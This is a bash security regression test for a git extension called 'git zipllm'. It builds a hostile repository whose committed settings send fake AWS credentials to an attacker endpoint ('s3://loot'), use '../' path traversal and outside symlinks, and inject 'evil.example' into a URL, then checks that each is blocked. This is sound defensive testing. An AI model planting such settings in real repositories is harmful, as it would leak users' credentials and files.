#!/usr/bin/env bash
# A clone of an untrusted repository is safe: what its committed files say
# cannot send the user's credentials or data anywhere, nor read or write
# outside the repository and its store.
. "$(dirname "$0")/lib.sh"
export PATH="$(dirname "$BIN"):$PATH"
S=$DATA/stories260K
export AWS_ACCESS_KEY_ID=AKIAVICTIMKEY AWS_SECRET_ACCESS_KEY=victim-secret AWS_SESSION_TOKEN=victim-session
unset AWS_PROFILE AWS_REGION AWS_DEFAULT_REGION AWS_ENDPOINT_URL AWS_ENDPOINT_URL_S3

# The attacker's repository: models plus committed files that try every
# trick. Its own store holds the objects, so a local clone works.
make_hostile() {
  local port=$1 outside=$2
  expect_ok git zipllm install
  git init -q evil && cd evil
  expect_ok git zipllm track '*.safetensors'
  cp "$S/base.bf16.safetensors" model.safetensors
  git add . && git commit -qm model
  printf '[zipllm]\n\turl = s3://loot/x?endpoint=http://127.0.0.1:%s\n\ts3endpoint = http://127.0.0.1:%s\n\tbase = ../outside/secret.safetensors\n' \
    "$port" "$port" > .zipllmconfig
  if [ "${3:-}" = with-remote-url ]; then
    printf '[remote "origin"]\n\tzipllmurl = %s/store\n' "$outside" >> .zipllmconfig
  fi
  printf 'ft.safetensors zipllm-base=../outside/secret.safetensors\nlinked.safetensors zipllm-base=link/secret.safetensors\n' >> .gitattributes
  ln -s "$outside" link
  git add . && git commit -qm tricks
  cd ..
}

# Issue 10, defects 8 and 10.
t_hostile_clone() {
  start_listener "$PWD/listener.log"
  mkdir outside
  cp "$S/ftB_changelogs.bf16.safetensors" outside/secret.safetensors
  make_hostile "$LISTEN_PORT" "$PWD/outside" with-remote-url
  git init -q --bare victim-remote.git
  # The victim clones, works and pushes with AWS credentials in the environment.
  expect_ok git clone evil mine
  cd mine
  expect_same model.safetensors "$S/base.bf16.safetensors"
  cp "$S/ftA_licenses.bf16.safetensors" ft.safetensors
  cp "$S/ftC_copyright_lr1e-5.bf16.safetensors" linked.safetensors
  git add ft.safetensors linked.safetensors > "$LOG" 2>&1 || true
  git commit -qm "my fine-tunes" > /dev/null 2>&1 || true
  git remote add mine ../victim-remote.git
  git push -q mine main > /dev/null 2>&1 || true
  # Untrusted settings are named, and the store of the local-path remote
  # (the user's own choice of remote) is used instead.
  expect_ok git zipllm fetch
  expect_log 'not used until you trust it'
  expect_log 'git zipllm trust'
  expect_ok git zipllm checkout
  expect_ok git zipllm verify --remote
  cd ..
  # Nothing reached the attacker's endpoint, nothing was written outside.
  expect_eq "$(cat listener.log)" "" "requests to the attacker's endpoint"
  expect_eq "$(ls outside)" "secret.safetensors"
  # The secret outside the work tree was never read as a base: its tensors
  # are in no store.
  local secret_id
  secret_id=$(cd mine && git zipllm show "$PWD/../outside/secret.safetensors" 2>/dev/null |
              awk '/model.embed_tokens.weight/ {print $NF}' | head -1)
  for store in mine/.git/zipllm evil/.git/zipllm victim-remote.git/zipllm; do
    expect_eq "$(grep -rl AKIAVICTIMKEY "$store" 2>/dev/null | head -1)" ""
  done
  expect_eq "$(cd mine && git zipllm show HEAD:ft.safetensors 2>&1 | grep -c 'delta (' || true)" 0
}

# Once trusted, the committed settings are used (and the http:// rule
# still keeps credentials off the wire to non-local hosts).
t_trust_uses_committed_settings() {
  start_listener "$PWD/listener.log"
  mkdir outside
  make_hostile "$LISTEN_PORT" "$PWD/outside"
  GIT_ZIPLLM_SKIP_SMUDGE=1 git clone -q evil mine
  cd mine
  expect_ok git zipllm trust
  expect_log "trusted: zipllm.url = s3://loot/x"
  expect_ok git zipllm trust --list
  expect_log 'zipllm.url=s3://loot'
  git zipllm fetch > "$LOG" 2>&1 || true
  expect_true grep -q 'HEAD /loot' ../listener.log
  expect_ok git zipllm trust --revoke
  : > ../listener.log
  expect_ok git zipllm fetch
  expect_log 'not used until you trust it'
  expect_eq "$(cat ../listener.log)" ""
}

# Issue 10, defect 8: credentials over http:// to a host that is not this
# machine need the user's explicit setting.
t_no_credentials_over_plain_http() {
  git init -q r && cd r
  expect_fail git -c zipllm.url='s3://bkt/p?endpoint=http://192.0.2.1:9000' zipllm fetch
  expect_log 'refusing to send AWS credentials over plain http'
  expect_fail git -c zipllm.url='s3://bkt/p?region=x@evil.example/' zipllm fetch
  expect_log "bad S3 region"
}

# Issue 10, defect 12: credentials in URLs were printed.
t_credentials_redacted() {
  expect_ok git zipllm install
  git init -q r && cd r
  expect_fail git -c 'zipllm.url=s3://bkt/p?endpoint=http://bob:PASSWORD@127.0.0.1:1' zipllm fetch
  expect_no_log PASSWORD
  git remote add origin https://alice:TOKEN123@127.0.0.1:1/repo.git
  expect_ok git zipllm lfs-enable
  expect_no_log TOKEN123
  expect_eq "$(git config --list | grep -c TOKEN123)" 1 "config entries holding the token (only the remote URL)"
  expect_true git config --get 'lfs.https://127.0.0.1:1/repo.git.standalonetransferagent'
}

# Issue 10, defect 11: a symbolic link inside the store is not followed.
t_store_symlinks_not_followed() {
  expect_ok git zipllm install
  git init -q r && cd r
  expect_ok git zipllm track '*.safetensors'
  git add . && git commit -qm attrs
  mkdir -p ../elsewhere .git/zipllm/objects
  make_model big.safetensors 1048576
  # Pre-create the fan-out folder the object will go to, as a link.
  local id
  id=$(git zipllm show big.safetensors 2>/dev/null | awk '$1=="w" {print $NF}')
  git hash-object big.safetensors > /dev/null 2>&1 || true
  for d in .git/zipllm/objects/*/; do
    [ -d "$d" ] || continue
    rm -rf "$d"; ln -s ../../../../elsewhere "${d%/}"
  done
  rm -rf .git/zipllm/objects/*
  for h in 0 1 2 3 4 5 6 7 8 9 a b c d e f; do for l in 0 1 2 3 4 5 6 7 8 9 a b c d e f; do
    ln -s ../../../../elsewhere ".git/zipllm/objects/$h$l"
  done; done
  expect_fail git add big.safetensors
  expect_log 'symbolic link'
  expect_eq "$(ls -A ../elsewhere)" ""
}

test_case "a hostile repository's committed settings are not used" t_hostile_clone
test_case "git zipllm trust approves committed settings" t_trust_uses_committed_settings
test_case "no AWS credentials over plain http to other hosts" t_no_credentials_over_plain_http
test_case "credentials in URLs never printed or put in config keys" t_credentials_redacted
test_case "symbolic links inside the store are not followed" t_store_symlinks_not_followed
finish
